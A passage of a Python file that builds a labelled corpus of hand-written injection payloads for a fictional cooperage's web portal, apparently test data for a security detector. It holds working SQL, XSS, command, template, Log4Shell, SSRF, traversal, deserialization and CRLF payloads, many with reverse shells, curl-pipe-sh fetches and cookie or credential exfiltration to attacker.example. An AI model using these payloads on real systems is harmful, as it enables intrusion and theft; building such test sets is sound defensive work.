#!/usr/bin/env python3
"""Attack values for the cooperage held-out corpus (barrel maker serving distilleries).

All literals were written by hand for this corpus's sinks: order/stock SQL queries, portal
HTML pages, the toast-log export shell scripts, photo/log file paths, the webhook / label
image fetcher, e-mail & label templates, the MongoDB-style order filter, the manifest log
and mailer, and the LDAP/XPath staff directory. A small remainder joins a hand-written
payload pool to hand-written theme prefixes, or percent-encodes every byte once.
"""
import json
import os
import random

SEED = 26802

A = {}  # category -> list of (class, value)


def add(cat, cls, *vals):
    A.setdefault(cat, []).extend((cls, v) for v in vals)


# =============================================================== sqli (literals)
add("sqli", "union",
    "HB-101' UNION SELECT username, password_hash, NULL FROM portal_users-- -",
    "hogshead' union all select null,concat(email,0x3a,pw),null,null from clients#",
    "4471) UNION SELECT table_name,2,3 FROM information_schema.tables WHERE table_schema=database()-- ",
    "ASB-200' UnIoN/**/SeLeCt/**/1,group_concat(column_name),3/**/FrOm/**/information_schema.columns/**/wHeRe/**/table_name='invoices'-- x",
    "quarter cask'/*!50000UNION*//*!50000SELECT*/ api_key,2 FROM erp_tokens-- -",
    "8812 union select 1,@@version,user(),4,5",
    "barrique' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--",
    "-1' union select 1,string_agg(usename||':'||passwd,','),3 from pg_shadow--",
    "mizunara'%0aunion%0aselect%0a1,load_file('/etc/passwd'),3--%20-",
    "HH-250' UNION SELECT 1,2,3,4,5,6,7,8 ORDER BY 1-- sure",
    "cask stand')) union select card_number,exp,cvv from payments-- -",
)
add("sqli", "boolean",
    "Glen Ardoch' OR '1'='1",
    "8812' or 1=1-- -",
    "O'Brien' OR 'x'='x'#",
    "4471 AND 1=1",
    "4471 AND 1=2",
    "HB-12' AND substring((select password from portal_users where login='fiona'),1,1)='a'-- ",
    "admin'-- ",
    "accounts@glenardoch.example' oR 2>1 -- ",
    "quarter cask' AND ascii(mid(database(),1,1))>100 AND 'a'='a",
    "sherry butt' || '1'='1",
    "x' OR true--",
    "ASB') or ('a'='a",
    "char 4' aNd (SELECT COUNT(*) FROM users) > 0 AnD '1'='1",
    "1 or 1 like 1",
    "HH-250' OR 'cooper' LIKE 'coop%",
    "' or ''='",
)
add("sqli", "time",
    "HB-101' AND SLEEP(5)-- -",
    "8812; SELECT pg_sleep(7)--",
    "4471'); WAITFOR DELAY '0:0:6'--",
    "barrique' AND (SELECT 1 FROM (SELECT SLEEP(4))x)-- x",
    "1 AND BENCHMARK(5000000,MD5('stave'))",
    "hogshead' and if(length(database())>5,sleep(3),0)#",
    "ASB-200'||(select case when (1=1) then pg_sleep(5) else pg_sleep(0) end)--",
    "x' AND 1=(SELECT 1 FROM DUAL WHERE DBMS_PIPE.RECEIVE_MESSAGE('q',6)=0)--",
    "quarter' AND 2938=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(400000000/2))))--",
    "SLEEP(6) /*' or sleep(6) or '\" or sleep(6) or \"*/",
)
add("sqli", "error",
    "HB-101' AND extractvalue(1,concat(0x7e,(select @@version),0x7e))-- -",
    "8812 and updatexml(null,concat(0x3a,(select user())),null)",
    "4471' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--",
    "hogshead' and cast((select version()) as int)=1--",
    "cask' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- ",
    "ASB' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "1' AND EXP(~(SELECT * FROM (SELECT user())a))-- -",
)
add("sqli", "stacked",
    "Order 8812 received'; DROP TABLE cask_orders;--",
    "9902; update invoices set amount=0 where client_id=14;--",
    "HB-12'; INSERT INTO portal_users(login,pw,role) VALUES('cooper','x','admin');-- ",
    "4471'; EXEC xp_cmdshell 'whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt';--",
    "stave lot 17'; COPY (SELECT '') TO PROGRAM 'curl attacker.example/x|sh';--",
    "1; DELETE FROM toast_logs WHERE 1=1",
    "hogshead'; ALTER USER postgres WITH PASSWORD 'barrel';--",
    "x'); truncate table shipping_manifests; --",
    "20 casks'; SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/c.php'-- -",
    "ASB';declare @q varchar(99);set @q='ping attacker.example';exec master..xp_cmdshell @q;--",
)
add("sqli", "oob",
    "HB-101' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM portal_users LIMIT 1),'.sqli.attacker.example\\\\a'))-- ",
    "4471'; exec master..xp_dirtree '\\\\203.0.113.9\\share';--",
    "x' UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--",
)
add("sqli", "order-limit",
    "cask_id,(select case when (1=1) then 1 else 1/0 end)",
    "delivery_date DESC, (SELECT SLEEP(5))",
    "IF(1=1,size_l,price) ASC -- sort",
    "price LIMIT 1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
    "size_l ASC;SELECT pg_sleep(5)",
)
add("sqli", "obfuscated",
    "HB-101'%20OR%201%3D1--%20-",
    "8812%27%20uNiOn%20sElEcT%20login%2Cpw%20fRoM%20portal_users--",
    "hogshead%2527%2520or%25201%253D1--",
    "ASB-200\u02bc OR 1=1-- ",
    "4471'/**/oR/**/1/**/=/**/1#",
    "cask'||(sElEcT/*x*/cHr(65)||cHr(66))||'",
    "HB-12' OR 0x31=0x31 -- ",
    "9902' anD 1=(select 1 from(select count(*),concat(0x7e,(select user()),0x7e,floor(rand(0)*2))a from information_schema.plugins group by a)b)--+",
    "quarter cask'\tor\t'a'='a",
    "ＨＢ-101＇ ＯＲ １＝１--",
)

# =============================================================== xss (literals)
add("xss", "tag",
    "Lovely casks! <script>fetch('//attacker.example/c?'+document.cookie)</script>",
    "Glen Ardoch<svg onload=alert(document.domain)>",
    "<img src=x onerror=\"new Image().src='https://attacker.example/l?c='+encodeURIComponent(document.cookie)\">",
    "Order note: <iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=import('//attacker.example/m.js')>",
    "<details open ontoggle=alert`cask`>",
    "heads engraved <video><source onerror=\"eval(atob('YWxlcnQoMSk='))\"></video>",
    "<input autofocus onfocus=location='//attacker.example/?'+document.cookie>",
    "<marquee onstart=confirm(1)>toast log</marquee>",
    "<audio src=1 onerror=alert(origin)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"javascript:alert('stave')\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<style>@keyframes k{}</style><div style=\"animation-name:k\" onanimationstart=\"alert(1)\">hoop</div>",
    "<form action=https://attacker.example/login><input name=password placeholder='Re-enter portal password'><button>OK</button></form>",
    "<base href=\"https://attacker.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/portal-login\">",
    "<link rel=import href=//attacker.example/x.html>",
    "<script src=//attacker.example/hook.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg/onload=prompt(1)//",
    "<img src=1 oNeRrOr=alert(1)>",
    "<a href=\"#\" onclick=\"fetch('/api/users',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('//attacker.example',{method:'POST',body:t}))\">Download COA</a>",
    "<table background=\"javascript:alert(1)\">",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea autofocus onfocus=alert(document.cookie)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
)
add("xss", "attr-breakout",
    "\" onmouseover=\"alert(1)",
    "Siobhán O'Neill' autofocus onfocus='alert(1)",
    "\"><script>alert(document.cookie)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\"alert(1)",
    "x\" onpointerenter=\"fetch('//attacker.example/'+localStorage.token)\" y=\"",
    "\"/><svg onload=alert(1)>",
    "Harbour Rum Co.\" accesskey=\"x\" onclick=\"alert(1)\"",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
)
add("xss", "js-context",
    "';alert(String.fromCharCode(88,83,83));//",
    "\";alert(1);//",
    "</script><script>alert(1)</script>",
    "${alert(1)}",
    "'-alert(1)-'",
    "\\';alert(1);//",
    "8812\";document.location='https://attacker.example/?c='+document.cookie;var a=\"",
    "');fetch('//attacker.example/'+document.cookie);('",
)
add("xss", "url-scheme",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    " javascript:fetch('//attacker.example/'+document.cookie)",
)
add("xss", "encoded",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "＜script＞alert(1)＜/script＞",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<svg><script>&#x61;lert(1)</script></svg>",
    "<a href=\"jav&#x09;ascript:alert(1)\">track shipment</a>",
)
add("xss", "markdown",
    "[Tracking link](javascript:alert(document.cookie))",
    "![cask photo](x\" onerror=\"alert(1))",
    "[COA](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
)
add("xss", "dom-template",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "#<img src=x onerror=alert(1)>",
    "<x-cask is=\"dom-bind\"><template><img src=x onerror=alert(1)></template></x-cask>",
)

# =============================================================== cmdi (literals)
add("cmdi", "separator",
    "2024-06-11; cat /etc/passwd",
    "2024-06-11 && id",
    "cask_14.jpg | nc 203.0.113.7 4444 -e /bin/sh",
    "HB-101 || curl -s http://attacker.example/s.sh | bash",
    "lot17;wget -qO- attacker.example/x|sh",
    "2024-06-11%0aid",
    "2024-06-11\nuname -a",
    "toast.csv & whoami",
    "manifest M-0611; rm -rf /var/www/portal/uploads",
    "cask.jpg;bash -i >& /dev/tcp/198.51.100.23/9001 0>&1",
    "HB-12|id",
    "export.csv;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
    "2024-06 ; php -r '$s=fsockopen(\"198.51.100.3\",1337);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "q2;perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(5555,inet_aton(\"203.0.113.44\")));open(STDIN,\">&S\");exec(\"/bin/sh\")'",
    "x;ncat 203.0.113.8 443 --ssl -e /bin/bash",
    "photo.jpg\r\nid",
)
add("cmdi", "substitution",
    "cask_$(whoami).jpg",
    "HB-101`id`",
    "toast log $(curl attacker.example/$(hostname))",
    "2024-06-11$(sleep 7)",
    "lot `cat /etc/shadow | base64 -w0 | curl -d @- attacker.example`",
    "manifest-$(nslookup $(whoami).cmd.attacker.example)",
    "$(printf '\\151\\144')",
    "`echo Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo|base64 -d|sh`",
    "${IFS}id",
    "a$(id>/tmp/o)b",
)
add("cmdi", "obfuscated",
    ";c'a't /e't'c/pa's'swd",
    ";/???/c?t /???/p??s??",
    "2024-06-11;cat${IFS}/etc/passwd",
    ";{cat,/etc/passwd}",
    ";w\\h\\o\\a\\m\\i",
    ";$0 -c 'id'",
    "lot17;X=$'\\x63\\x61\\x74';$X /etc/hosts",
    ";c\"\"url attacker.example/a -o /tmp/a;sh /tmp/a",
    "HB;ca$@t /etc/passwd",
    "%3Bid%3B",
    "%26%26%20cat%20%2Fetc%2Fpasswd",
    "2024-06-11%250aid",
    ";a=wh;b=oami;$a$b",
    ";tr 'a-z' 'n-za-m' <<< 'phey nggnpxre.rknzcyr|fu'|sh",
    "$(rev<<<'di')",
    ";IFS=,;cmd=cat,/etc/passwd;$cmd",
)
add("cmdi", "windows",
    "export.csv & type C:\\Windows\\win.ini",
    "cask.jpg | powershell -nop -c \"iwr http://attacker.example/p.ps1|iex\"",
    "2024-06-11 && certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe",
    "lot17 || cmd /c net user cooper Barrel123! /add",
    "HB-12 & ping -n 10 127.0.0.1",
    "x | powershell -enc SQBFAFgAKABJAFcAUgAgAGEAdAB0AGEAYwBrAGUAcgAuAGUAeABhAG0AcABsAGUAKQA=",
    "toast.xlsx & set /a 1+1",
    "photo.png & wmic process call create \"calc.exe\"",
    "&& for /f %i in ('whoami') do nslookup %i.attacker.example",
    "report.pdf ^& dir C:\\",
)
add("cmdi", "argument",
    "--output=/var/www/portal/public/shell.php",
    "-oProxyCommand=sh -c 'curl attacker.example|sh' x",
    "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh",
    "-exec sh -c 'id > /tmp/p' ;",
    "--use-compress-program='sh -c id'",
    "toast.tar.gz --to-command='nc 203.0.113.9 80 -e sh'",
    "-F 'file=@/etc/passwd' http://attacker.example/up",
    "cask.jpg -write /var/www/html/x.php",
)
add("cmdi", "timing-blind",
    "2024-06-11 | sleep 9",
    "HB-101;ping -c 12 127.0.0.1",
    "lot17`sleep 6`",
    "x||timeout /t 8",
)

# =============================================================== traversal (literals)
add("traversal", "dotdot",
    "../../../../etc/passwd",
    "2024-06-11/../../../../../etc/shadow",
    "cask_14.jpg/../../../../proc/self/environ",
    "../../../var/www/portal/.env",
    "..\\..\\..\\windows\\win.ini",
    "..\\..\\..\\..\\inetpub\\wwwroot\\web.config",
    "photos/HB-101/../../../../../home/cooper/.ssh/id_rsa",
    "../../../../../../root/.bash_history",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "..//..//..//..//etc//passwd",
    "./.././.././../etc/passwd",
    "../../../../usr/local/app/config/database.yml",
    "..\\/..\\/..\\/etc/passwd",
    "toast/2024-06-11/../../../../../../proc/self/cmdline",
    "../../../../var/log/nginx/access.log",
    "../../../../../../etc/passwd%00.jpg",
    "../../../../../etc/passwd\\u0000.csv",
    "manifests/M-0611.pdf%00../../../../etc/passwd",
    "../../../../app/node_modules/../package.json",
)
add("traversal", "encoded",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "..%2f..%2f..%2f..%2fproc%2fself%2fenviron",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252fvar%252fwww%252fportal%252f.env",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%e0%80%af..%e0%80%afetc/passwd",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "．．／．．／．．／etc／passwd",
    "..%255c..%255c..%255cboot.ini",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cWindows%5cwin.ini",
    "cask_14.jpg%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
)
add("traversal", "absolute",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\Windows\\System32\\config\\SAM",
    "/proc/self/fd/3",
    "\\\\203.0.113.10\\share\\toast.csv",
    "php://filter/convert.base64-encode/resource=../config.php",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "zip:///var/www/portal/uploads/toast.zip#../../config.php",
    "/home/cooper/.aws/credentials",
    "C:/inetpub/wwwroot/../../Windows/win.ini",
)

# =============================================================== ssrf (literals)
add("ssrf", "metadata",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.170.2/v2/credentials",
    "https://erp.glenardoch.example@169.254.169.254/latest/meta-data/",
)
add("ssrf", "loopback",
    "http://127.0.0.1:8080/admin",
    "http://localhost:6379/",
    "http://127.0.0.1:9200/_cat/indices",
    "http://localhost/server-status",
    "http://0.0.0.0:2375/containers/json",
    "http://[::1]:22/",
    "http://127.1/portal/admin/users",
    "http://localhost:5984/_all_dbs",
    "http://127.0.0.1:11211/",
    "http://localhost:8500/v1/agent/self",
)
add("ssrf", "internal",
    "http://10.0.0.12/erp/api/export",
    "http://192.168.1.1/cgi-bin/config.exp",
    "http://172.16.4.20:8080/manager/html",
    "http://jenkins.internal:8080/script",
    "http://redis:6379/",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://10.10.0.5:2379/v2/keys/?recursive=true",
    "http://vault.service.consul:8200/v1/secret/data/cooperage",
)
add("ssrf", "alt-ip",
    "http://2130706433/admin",
    "http://0x7f000001:8080/",
    "http://017700000001/",
    "http://0177.0.0.1/server-status",
    "http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://[::ffff:127.0.0.1]:8080/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
    "http://127.0.0.1.nip.io:8080/admin",
    "http://①②⑦.⓪.⓪.①/",
    "http://169.254.169.254.attacker.example/latest/meta-data/",
)
add("ssrf", "scheme",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "dict://localhost:11211/stats",
    "file:///etc/shadow",
    "ftp://10.0.0.8/backups/db.sql",
    "ldap://127.0.0.1:389/%0astats%0aquit",
    "tftp://198.51.100.20/cask.cfg",
    "jar:http://attacker.example/x.jar!/",
    "netdoc:///etc/passwd",
)
add("ssrf", "redirect-parser",
    "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "http://attacker.example#@127.0.0.1:8080/",
    "http://127.0.0.1:80\\@attacker.example/",
    "http://localhost%2523@attacker.example/",
    "https://rebind.attacker.example/webhook",
)

# =============================================================== code (literals)
add("code", "ssti",
    "Dear {{first_name}}, {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('curl attacker.example|sh').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.items()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['eval'](\"__import__('os').system('id')\") }}{% endif %}{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}",
    "Cask No. ${\"freemarker.template.utility.Execute\"?new()(\"id\")} of 40",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"cat /etc/passwd\")}",
    "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$r",
    "{{= global.process.mainModule.require('child_process').execSync('id') }}",
    "<%= `id` %>",
    "<%= File.open('/etc/passwd').read %>",
    "{{#with \"s\" as |string|}}{{#with (string.sub.apply 0 \"constructor\")}}{{this.constructor 'return process'}}{{/with}}{{/with}}",
    "{php}echo `id`;{/php}",
    "{system('cat /etc/passwd')}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "[[${T(java.lang.System).getenv()}]]",
    "#{7*7}{{7*'7'}}${7*7}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('whoami')\")()}}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{ lipsum.__globals__['os'].popen('cat /var/www/portal/.env').read() }}",
    "Label: Cask {{n}} of {{total}} {{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
)
add("code", "expression",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
    "#{request.getClass().getClassLoader()}",
    "${applicationScope}",
    "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}",
    "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl attacker.example|sh'})}",
    "${@java.lang.Runtime@getRuntime().exec(\"id\")}",
)
add("code", "log4shell",
    "${jndi:ldap://attacker.example/a}",
    "Fire crew: Aoife ${jndi:rmi://203.0.113.12:1099/obj}",
    "${${lower:j}ndi:${lower:l}dap://x.attacker.example/c}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-d}${::-n}${::-s}://log.attacker.example/p}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.4/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}",
    "Mozilla/5.0 ${jndi:ldaps://attacker.example:636/${sys:java.version}}",
    "${jndi:${lower:L}${upper:d}AP://attacker.example/q}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fe%7D",
)
add("code", "eval",
    "require('child_process').exec('curl attacker.example/x|sh')",
    "__import__('os').system('id')",
    "1;process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "system('id'); // toast calc",
    "<?php system($_GET['c']); ?>",
    "<?=`$_POST[x]`?>",
    "exec(\"import urllib.request;urllib.request.urlopen('http://attacker.example/'+open('/etc/passwd').read())\")",
    "Function('return this')().process.binding('spawn_sync')",
    "`id`.to_s; Kernel.exec('id')",
    "';phpinfo();//",
    "assert(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
    "global.process.kill(process.pid)",
    "__import__('subprocess').check_output(['cat','/etc/shadow'])",
)
add("code", "prototype-pollution",
    "{\"__proto__\": {\"isAdmin\": true}}",
    "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}",
    "__proto__[discount]=100",
    "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
    "{\"cask\":\"HB-101\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}",
    "__proto__.toString=1",
)
add("code", "formula",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"View cask\")",
    "+SUM(1+1)*cmd|' /C powershell iwr attacker.example/p.ps1|iex'!A1",
    "-2+3+cmd|' /c notepad'!'A1'",
    "@SUM(1+9)*cmd|'/c calc'!A0",
    "HB-101,\"=WEBSERVICE(\"\"http://attacker.example/x?\"\"&A1)\",12,pcs",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:C20),\"//a\")",
    "\t=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "sku;desc;qty\nX1;=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!'';1",
    "=IMAGE(\"https://attacker.example/p.png?\"&A1)",
)
add("code", "xxe",
    "<?xml version=\"1.0\"?><!DOCTYPE m [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><manifest><note>&x;</note></manifest>",
    "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/ev.dtd\"> %d;]><r/>",
    "<?xml version=\"1.0\"?><!DOCTYPE cask [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><cask>&m;</cask>",
    "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><x>&d;</x>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hosts\"/>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE svg [<!ENTITY e SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/portal/config.php\">]><svg>&e;</svg>",
)
add("code", "deserialization",
    "O:8:\"CaskJob\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0",
    "cos\nsystem\n(S'id'\ntR.",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/o\",\"autoCommit\":true}",
    "!!python/object/apply:os.system [\"curl attacker.example|sh\"]",
    "--- !ruby/object:Gem::Installer\ni: x",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}",
    "a:2:{i:0;O:10:\"ToastLog\":1:{s:4:\"path\";s:15:\"../../.htaccess\";}i:1;i:1;}",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
)

# =============================================================== nosqli (literals)
add("nosqli", "operator",
    "{\"login\": \"fiona\", \"password\": {\"$ne\": null}}",
    "{\"client_id\": {\"$gt\": \"\"}}",
    "password[$ne]=x",
    "login[$regex]=^adm&password[$exists]=true",
    "{\"cask_id\": {\"$in\": [\"HB-101\"]}, \"$or\": [{}, {\"owner\": \"x\"}]}",
    "{\"order\": \"8812\", \"status\": {\"$nin\": [\"\"]}}",
    "token[$gt]=",
    "{\"email\": {\"$regex\": \"^a.*\", \"$options\": \"i\"}}",
    "{\"$where\": \"this.role == 'admin'\"}",
    "{\"qty\": {\"$where\": \"sleep(5000)\"}}",
    "{\"client\": \"Glen Ardoch\", \"$expr\": {\"$eq\": [1, 1]}}",
    "{\"size_l\": {\"$type\": 2}, \"price\": {\"$lt\": 999999}}",
    "{\"$lookup\": {\"from\": \"portal_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}",
    "login=fiona&password[%24ne]=1",
    "{\"api_key\": {\"$exists\": true}}",
    "{\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}",
)
add("nosqli", "js-injection",
    "HB-101'; return true; var x='",
    "'; while(true){}; '",
    "8812' || '1'=='1",
    "1; sleep(6000)",
    "a'; return this.password.match(/^b/) && ''=='",
    "0;return db.portal_users.find()",
    "\"; return (this.owner != 'z'); var f=\"",
    "x' && this.isAdmin == true && 'a'=='a",
    "{\"$where\": \"function(){ return obj.api_key.length > 0 }\"}",
    "' || Object.keys(this).length > 0 || '",
    "';db.getCollection('invoices').drop();'",
)

# =============================================================== crlf (literals)
add("crlf", "log-forging",
    "HB-101 toasted OK\n2024-06-11 14:55:02 INFO user=admin action=refund amount=11400 status=approved",
    "Aoife\r\n[2024-06-11T15:00:00Z] AUTH success user=mairead role=admin ip=203.0.113.30",
    "cask 55%0a2024-06-12 09:00:01 WARN stock adjusted sku=ASB-200 qty=-36 by=system",
    "lot17%0d%0a127.0.0.1 - - [11/Jun/2024:15:01:00] \"POST /admin/delete HTTP/1.1\" 200",
    "Tomás\u2028ERROR forged entry: manifest M-0611 cancelled by auditor",
    "x\n\n=== END OF LOG ===\n",
    "repair done%0d%0a%1b[2J%1b[1;31mSYSTEM BREACH%1b[0m",
)
add("crlf", "header-injection",
    "en-GB\r\nSet-Cookie: portal_session=attacker; Path=/; Domain=.cooperage.example",
    "/orders%0d%0aLocation:%20https://attacker.example/login",
    "HB-101%0D%0AX-Forwarded-For:%20127.0.0.1",
    "report.pdf\r\nContent-Disposition: attachment; filename=invoice.exe",
    "ok%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true",
    "fr%E5%98%8A%E5%98%8DSet-Cookie:%20lang=x;%20admin=1",
    "dashboard%0d%0aRefresh:0;url=https://attacker.example/",
)
add("crlf", "response-splitting",
    "orders%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "/portal\r\n\r\n<html><body>Session expired, <a href=//attacker.example>log in again</a></body></html>",
